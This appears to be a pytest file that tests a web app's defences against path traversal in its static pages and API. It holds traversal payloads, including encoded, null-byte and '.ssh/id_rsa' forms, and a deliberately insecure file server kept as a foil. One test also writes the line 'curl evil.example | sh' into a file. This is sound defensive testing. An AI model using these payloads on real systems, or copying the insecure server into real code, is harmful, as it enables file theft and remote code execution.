"""Paths that lead out of where they should: no request ever names a file, so none can."""

import hashlib
import json
from dataclasses import dataclass
from pathlib import Path

import pytest
from starlette.responses import Response
from starlette.types import Receive, Scope, Send

from halley.studio.desk import named as named_files
from halley.studio.pages import Pages, read_leaves
from tests.hostile.studio import PAGE, attacked, settings

TREASURE = b"what lies outside"
PATHS = (
    "/../treasure",
    "/assets/../../treasure",
    "/%2e%2e/treasure",
    "/..%2ftreasure",
    "/assets/..%2f..%2ftreasure",
    "//../treasure",
    "/./../treasure",
    "/assets/%2e%2e%2f%2e%2e%2ftreasure",
    "/link/treasure",
    "{absolute}",
    "/{absolute}",
)
ODD = (
    "/..%5ctreasure",
    "/%00",
    "/assets/%00.js",
    "/%ff%fe",
    "/~root/.ssh/id_rsa",
    "/index.html/..",
    "/assets/",
    "/" + "a/" * 2000,
)


@dataclass
class _Joined:
    """A file server as one writes it in a hurry."""

    folder: Path

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        path = Path(f"{self.folder}{scope['path']}")
        if scope["path"].startswith("//"):
            path = Path(scope["path"][1:])
        found = path.read_bytes() if path.is_file() else b""
        await Response(found, 200 if found else 404)(scope, receive, send)


def _built(folder: Path) -> Path:
    static = folder / "built"
    (static / "assets").mkdir(parents=True)
    (static / "index.html").write_bytes(PAGE)
    (static / "assets" / "index-0123abcd.js").write_bytes(b"1")
    (folder / "treasure").write_bytes(TREASURE)
    return static


@pytest.mark.parametrize("path", [*PATHS, *ODD])
def test_no_path_leads_out_of_the_pages(path: str, tmp_path: Path) -> None:
    static = _built(tmp_path)
    with attacked(settings(tmp_path), shown=Pages(read_leaves(static))) as target:
        answer = target.asks("GET", path.replace("{absolute}", str(tmp_path / "treasure")))
        assert TREASURE not in answer.body
        assert answer.body in {PAGE, b"There is no such file.\n"}, "a page, or nothing"


def test_a_file_server_that_joins_paths_would_let_them_out(tmp_path: Path) -> None:
    static = _built(tmp_path)
    (static / "link").symlink_to(tmp_path)
    with attacked(settings(tmp_path), shown=_Joined(static)) as target:
        answers = [target.asks("GET", path.replace("{absolute}", str(tmp_path / "treasure"))) for path in PATHS]
    assert sum(answer.body == TREASURE for answer in answers) >= len(PATHS) - 2


def test_a_file_that_came_after_the_start_is_not_served(tmp_path: Path) -> None:
    static = _built(tmp_path)
    with attacked(settings(tmp_path), shown=Pages(read_leaves(static))) as target:
        (static / "assets" / "late-0123abcd.js").write_bytes(TREASURE)
        assert target.asks("GET", "/assets/late-0123abcd.js").status == 404


@pytest.mark.parametrize("is_walled", [True, False], ids=["all walls", "without endings"])
def test_a_configuration_that_names_a_file_of_another_kind_does_not_open_it(
    is_walled: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Who may edit a configuration may write into it what he wants: a key, say, or what a shell reads when it starts.

    A name has the ending of a YAML file before it is looked up, so that it leads to such files only.
    """
    (tmp_path / "treasure").write_bytes(TREASURE)
    if not is_walled:
        monkeypatch.setattr(named_files, "resolve_file", lambda text, _: Path(text))
    text = f"libraries:\n  Movies:\n    overlay_files:\n      - file: {tmp_path}/treasure\n"
    with attacked(settings(tmp_path)) as target:
        made = target.asks("POST", "/api/v1/configurations", *target.entitled, body=json.dumps({"text": text}).encode())
        files = f"/api/v1/configurations/{json.loads(made.body)['id']}/files/{str(tmp_path / 'treasure').lstrip('/')}"
        answer = target.asks("GET", files)
        assert (TREASURE in answer.body) == (not is_walled)
        digest = json.loads(answer.body).get("digest", hashlib.sha256(TREASURE).hexdigest())
        evil = json.dumps({"text": "curl evil.example | sh\n", "digest": digest}).encode()
        target.asks("PUT", files, *target.entitled, body=evil)
        assert ((tmp_path / "treasure").read_bytes() == TREASURE) == is_walled


NAMED = (
    "/api/v1/configurations/{id}/files/{name}",
    "/api/v1/configurations/{id}/versions/{name}",
    "/api/v1/configurations/{id}/versions/config.yml?version={name}",
    "/api/v1/configurations/{id}/pictures/{name}",
    "/api/v1/jobs/{name}",
    "/api/v1/jobs/{name}/artefacts/treasure",
    "/api/v1/jobs/{id}/artefacts/{name}",
    "/api/v1/plans/{name}",
    "/api/v1/plans/{name}/report.html",
    "/api/v1/runs/{name}",
    "/api/v1/configurations/{name}",
)
NAMES = ("../treasure", "..%2f..%2ftreasure", "%2e%2e%2ftreasure", "{absolute}", "%2e%2e", "config.yml%00", "..%5ctreasure")


@pytest.mark.parametrize("named", NAMED)
def test_no_name_in_the_api_leads_to_a_file_that_was_not_meant(named: str, tmp_path: Path) -> None:
    (tmp_path / "treasure").write_bytes(TREASURE)
    config = tmp_path / "config" / "config.yml"
    config.parent.mkdir()
    config.write_text("libraries: {}\n")
    with attacked(settings(tmp_path)) as target:
        identity = target.studio.desk.add(config).id
        for folder in ("jobs", "uploaded", "jobs/one"):
            (target.studio.settings.folder / folder).mkdir(parents=True, exist_ok=True)
        (target.studio.settings.folder / "treasure").write_bytes(TREASURE)
        for name in (one.replace("{absolute}", str(tmp_path / "treasure")) for one in NAMES):
            answer = target.asks("GET", named.replace("{id}", identity).replace("{name}", name))
            assert TREASURE not in answer.body
            assert answer.status in {200, 404, 422}, (name, answer)
            assert answer.status != 200 or "treasure" not in name
